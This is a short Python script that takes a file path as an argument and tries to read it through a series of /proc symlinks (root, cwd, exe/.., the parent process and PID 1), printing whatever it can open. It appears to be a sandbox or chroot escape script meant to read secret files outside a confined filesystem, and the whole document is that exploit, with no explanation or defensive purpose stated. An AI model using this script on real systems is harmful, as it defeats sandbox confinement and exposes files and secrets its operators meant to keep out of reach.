import os, sys

secret = sys.argv[1]
processes = ["self", "thread-self", "1", str(os.getppid()), "self/task/" + str(os.getpid())]
for process in processes:
    for link in ("root", "cwd", "cwd/../../../../../../..", "exe/.."):
        try:
            print(open(f"/proc/{process}/{link}{secret}").read())
        except OSError:
            pass
